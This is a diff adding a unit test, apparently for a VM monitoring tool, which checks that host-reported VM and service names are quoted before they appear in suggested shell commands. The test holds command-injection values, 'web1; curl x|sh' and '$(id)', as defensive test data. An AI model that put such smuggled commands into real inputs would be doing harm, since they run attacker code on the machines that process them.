@@ -420,6 +420,24 @@ def test_vms_in_trouble() -> None:
     assert the(found(hosts={"h1": host(troubles=[paused])}), "vms").text == "VM web is in trouble: paused"
 
 
+EVIL = "web1; curl x|sh"
+
+
+def test_what_a_host_says_is_no_command_in_a_hint() -> None:
+    """Hints are copied into shells."""
+    troubles = [
+        VmTrouble(vm_id="aaaaaaaa", name=EVIL, state="failed"),
+        VmTrouble(vm_id=EVIL, state="failed"),
+        VmTrouble(vm_id="aaaaaaab", name="$(id)", state="failed"),
+    ]
+    ill = host(troubles=troubles, services={EVIL: "failed"}, bridge_state="down")
+    hints = [finding.hint for finding in judge(found(hosts={"h1": ill}))]
+    for called in ("aaaaaaaa", f"'{EVIL}'", "aaaaaaab"):
+        assert f"aetherscale-cli show-vm {called} shows its console; aetherscale-cli start-vm {called}" in hints
+    assert f"on h1: journalctl -u '{EVIL}' says why; systemctl restart '{EVIL}'" in hints
+    assert not any(EVIL in hint.replace(f"'{EVIL}'", "") for hint in hints)
+
+
 def image(name: str, state: Any, reason: str = "") -> ImageSum:
     return ImageSum(image=name, sha256="ab" * 32, state=state, reason=reason)
 
